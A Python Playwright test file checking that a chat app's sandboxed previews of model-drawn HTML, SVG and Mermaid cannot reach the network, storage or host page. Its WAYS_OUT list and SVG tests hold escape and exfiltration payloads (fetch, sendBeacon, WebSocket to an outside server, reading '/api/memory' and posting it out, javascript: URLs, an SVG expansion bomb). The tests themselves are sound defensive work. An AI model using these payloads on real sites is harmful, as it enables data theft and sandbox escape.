"""What a model drew is seen beside its code, and reaches nothing: no network, no storage, not the page."""

import re
import threading
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Locator, expect

from tests.browser.chat_page import ChatPage
from tests.browser.conftest import OpenChat
from tests.browser.model_server import ModelServer
from tests.services.server import Divan

POLICY = (
    "sandbox allow-scripts; default-src 'none'; script-src 'unsafe-inline' blob:; style-src 'unsafe-inline'; "
    "img-src data: blob:; font-src data:; frame-ancestors 'self'"
)
SILENT_MS = 30_000
FENCE = "```"


class Outside:
    """A server that writes down what it is asked, also while a connection is open on which nothing is."""

    def __init__(self) -> None:
        asked = self.asked = list[str]()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.end_headers()

            def do_POST(self) -> None:
                self.do_GET()

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.block_on_close = False
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        self.thread = threading.Thread(target=self.server.serve_forever)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.thread.join()
        self.server.server_close()


@pytest.fixture
def outside() -> Iterator[Outside]:
    running = Outside()
    yield running
    running.close()


def answered(chat: ChatPage, models: ModelServer, *blocks: tuple[str, str]) -> Locator:
    """The last block of an answer that holds these: language and code."""
    chat.pick_model("slow-one")
    chat.say("Draw")
    asked = models.next_asked()
    asked.say("\n\n".join(f"{FENCE}{language}\n{code}\n{FENCE}" for language, code in blocks) + "\n\nDone.")
    asked.finish()
    chat.expect_status("complete")
    return chat.text.locator(".md-code").last


def press(figure: Locator, name: str) -> None:
    figure.get_by_role("button", name=name, exact=True).click()


def test_the_sandbox_has_one_policy_sets_no_cookie_and_asks_for_no_login(divan: Divan) -> None:
    with urllib.request.urlopen(f"{divan.url}/sandbox/") as answer:
        headers = answer.headers
    assert headers.get_all("Content-Security-Policy") == [POLICY]
    assert headers.get_all("Set-Cookie") is None
    assert headers["X-Frame-Options"] is None
    with urllib.request.urlopen(divan.url) as page:
        assert "frame-src 'self'" in page.headers["Content-Security-Policy"]


def test_a_block_has_a_preview_once_it_is_closed_and_others_have_none(
    open_chat: OpenChat, divan_with_models: Divan, models: ModelServer
) -> None:
    chat = open_chat(divan_with_models)
    chat.pick_model("slow-one")
    chat.say("Draw")
    asked = models.next_asked()
    asked.say(f"{FENCE}python\nprint()\n{FENCE}\n\n{FENCE}html\n<b>first")
    expect(chat.text).to_contain_text("<b>first")
    expect(chat.text.get_by_role("button", name="Preview", exact=True)).to_have_count(0)
    asked.say(f"</b>\n{FENCE}\n\nAfter it.\n\nAnd more.\n")
    expect(chat.text.get_by_role("button", name="Preview", exact=True)).to_have_count(1)
    asked.finish()
    chat.expect_status("complete")
    expect(chat.text.get_by_role("button", name="Preview", exact=True)).to_have_count(1)
    assert not [url for url in chat.requests if "sandbox" in url or "mermaid" in url], "nobody looked at it"


def test_html_runs_in_its_frame_and_the_code_comes_back(
    open_chat: OpenChat, divan_with_models: Divan, models: ModelServer
) -> None:
    chat = open_chat(divan_with_models)
    page = "<p id=a>no</p><script>document.getElementById('a').textContent = 'script ran'</script>"
    figure = answered(chat, models, ("html", page))
    press(figure, "Preview")
    expect(figure.frame_locator("iframe").locator("#a")).to_have_text("script ran")
    expect(figure.locator("> pre")).to_be_hidden()
    press(figure, "Full size")
    expect(figure.frame_locator("iframe").locator("#a")).to_have_text("script ran")
    wide = figure.locator("iframe").evaluate("frame => frame.getBoundingClientRect().width / innerWidth")
    assert wide > 0.95
    press(figure, "Close")
    press(figure, "Reload")
    expect(figure.frame_locator("iframe").locator("#a")).to_have_text("script ran")
    press(figure, "Code")
    expect(figure.locator("iframe")).to_have_count(0)
    expect(figure.locator("> pre")).to_be_visible()
    assert chat.troubles == []


def test_svg_is_a_picture_and_what_is_none_is_said_beside_its_code(
    open_chat: OpenChat, divan_with_models: Divan, models: ModelServer, outside: Outside
) -> None:
    chat = open_chat(divan_with_models)
    drawn = (
        "<svg viewBox='0 0 30 20'><style>rect{fill:red}</style><rect width='30' height='20'/>"
        f"<image href='{outside.url}/image'/><script>window.top.hacked = 1</script>"
        f"<a href='javascript:alert(1)'><text y='9'>x</text></a></svg>"
    )
    tenfold = [f"<use href='#g{n}'/>" * 10 for n in range(8)]
    nested = "".join(f"<g id='g{n + 1}'>{uses}</g>" for n, uses in enumerate(tenfold))
    bomb = f"<svg xmlns='http://www.w3.org/2000/svg'><g id='g0'><path d='M0 0'/></g>{nested}</svg>"
    figure = answered(chat, models, ("svg", bomb), ("svg", "<svg><rect</svg>"), ("svg", drawn))
    press(figure, "Preview")
    picture = figure.locator("img")
    expect(picture).to_be_visible()
    assert (picture.get_attribute("src") or "").startswith("blob:")
    assert picture.evaluate("image => image.decode().then(() => image.naturalWidth)") == 30
    for place, words in ((0, "too long or too complex"), (1, "not a valid SVG")):
        other = chat.text.locator(".md-code").nth(place)
        press(other, "Preview")
        expect(other).to_contain_text(words)
        expect(other.locator("> pre")).to_be_visible()
    assert chat.page.evaluate("window.hacked") is None
    assert outside.asked == []
    assert chat.troubles == []


def test_mermaid_is_drawn_as_a_picture_and_its_errors_stand_beside_the_code(
    open_chat: OpenChat, divan_with_models: Divan, models: ModelServer, outside: Outside
) -> None:
    chat = open_chat(divan_with_models)
    click = f'click A href "{outside.url}/click"'
    diagram = f"graph TD\nA[Start] --> B{{Fine?}}\nB -->|yes| C[<img src={outside.url}/html>]\n{click}"
    long = "graph TD\n" + "A-->B\n" * 9_000
    blocks = [("mermaid", "graph TD\nA[[["), ("mermaid", long), ("mermaid", diagram)]
    figure = answered(chat, models, *blocks)
    press(figure, "Preview")
    expect(figure.locator("img")).to_be_visible(timeout=SILENT_MS)
    expect(figure.locator("iframe")).to_have_count(0)
    bad, too_long = chat.text.locator(".md-code").nth(0), chat.text.locator(".md-code").nth(1)
    press(bad, "Preview")
    expect(bad).to_contain_text("This diagram cannot be drawn", timeout=SILENT_MS)
    expect(bad).to_contain_text("line 2")
    press(too_long, "Preview")
    expect(too_long).to_contain_text("too long or too complex")
    assert chat.page.locator("body > svg, body > [id*=mermaid], body > [id^=d]").count() == 0
    assert outside.asked == []
    assert chat.troubles == []


LOOP = "<script>for (;;) {}</script>"
FLOOD = "<script>setInterval(() => { for (let n = 0; n < 500; n++) parent.postMessage(n, '*') }, 1)</script>"


@pytest.mark.parametrize(
    ("html", "words"),
    [
        (LOOP, "stopped answering"),
        (FLOOD, "sent too many messages"),
        ("<script>for (;;) parent.postMessage('x', '*')</script>", "stopped answering|too many messages"),
    ],
    ids=["loop", "flood", "loop that floods"],
)
def test_a_preview_that_does_not_answer_is_removed_and_the_page_lives_on(
    open_chat: OpenChat, divan_with_models: Divan, models: ModelServer, html: str, words: str
) -> None:
    chat = open_chat(divan_with_models)
    figure = answered(chat, models, ("html", html))
    press(figure, "Preview")
    chat.composer.fill("still here")
    expect(chat.composer).to_have_value("still here")
    expect(figure).to_contain_text(re.compile(words), timeout=SILENT_MS)
    expect(figure.locator("iframe")).to_have_count(0)
    expect(figure.locator("> pre")).to_be_visible()


WAYS_OUT = [
    "fetch(U + '/fetch')",
    "navigator.sendBeacon(U + '/beacon', 'x')",
    "new WebSocket(U.replace('http', 'ws') + '/socket')",
    "new EventSource(U + '/events')",
    "new Image().src = U + '/image'",
    "new Worker(URL.createObjectURL(new Blob([`fetch('${U}/worker')`])))",
    "document.body.append(Object.assign(document.createElement('script'), { src: U + '/script' }))",
    "document.body.append(Object.assign(document.createElement('iframe'), { src: U + '/frame' }))",
    "document.body.insertAdjacentHTML('beforeend', `<link rel=stylesheet href=${U}/sheet>`)",
    "document.body.insertAdjacentHTML('beforeend', `<link rel=prefetch href=${U}/prefetch>`)",
    "document.body.insertAdjacentHTML('beforeend', `<form action=${U}/form></form>`)",
    "document.forms[0].submit()",
    "document.body.insertAdjacentHTML('beforeend', `<a id=l ping=${U}/ping target=_blank href=${U}/a>`)",
    "document.getElementById('l').click()",
    "open(U + '/open')",
    "top.location = U + '/top'",
    "parent.document.title = 'taken'",
    "localStorage.setItem('x', 'y')",
    "document.cookie = 'x=y'",
    "fetch('/api/memory').then((answer) => answer.text()).then((text) => parent.postMessage(text, '*'))",
    "alert(1)",
    "location = 'javascript:top.hacked = 1'",
]
"""`U`: the address of a server outside."""


def test_nothing_of_a_preview_leaves_it(
    open_chat: OpenChat, divan_with_models: Divan, models: ModelServer, outside: Outside
) -> None:
    chat = open_chat(divan_with_models)
    tabs = chat.page.context.pages
    tried = "".join(f"try {{ {way} }} catch (error) {{ refused++ }}\n" for way in WAYS_OUT)
    page = (
        f"<body><p id=done></p><script>const U = '{outside.url}'; let refused = 0\n{tried}"
        "document.getElementById('done').textContent = 'tried'</script></body>"
    )
    refresh = f"<meta http-equiv=refresh content='0;url={outside.url}/refresh'>"
    away = f"<script>location = '{outside.url}/away'</script>"
    figure = answered(chat, models, ("html", refresh), ("html", away), ("html", page))
    press(figure, "Preview")
    expect(figure.frame_locator("iframe").locator("#done")).to_have_text("tried")
    leaving = [chat.text.locator(".md-code").nth(place) for place in (0, 1)]
    for each in leaving:
        press(each, "Preview")
    for each in leaving:
        expect(each).to_contain_text("stopped answering", timeout=SILENT_MS)
    assert outside.asked == []
    assert "taken" not in chat.page.title()
    assert chat.page.evaluate("window.hacked") is None
    assert chat.page.evaluate("localStorage.getItem('x')") is None
    assert "x" not in [cookie.get("name") for cookie in chat.page.context.cookies()]
    assert chat.page.context.pages == tabs
    expect(chat.composer).to_be_visible()
    assert not any(trouble.startswith("dialog") for trouble in chat.troubles)
    # The rest is what the browser and the preview's own script said of each refusal.
    chat.troubles.clear()


def test_previews_of_several_lanes_stand_beside_each_other(
    open_chat: OpenChat, divan_with_models: Divan, models: ModelServer
) -> None:
    chat = open_chat(divan_with_models)
    figure = answered(chat, models, ("html", "<b>one</b>"), ("html", "<i>two</i>"))
    other = chat.text.locator(".md-code").first
    press(figure, "Preview")
    press(other, "Preview")
    expect(figure.frame_locator("iframe").locator("i")).to_have_text("two")
    expect(other.frame_locator("iframe").locator("b")).to_have_text("one")
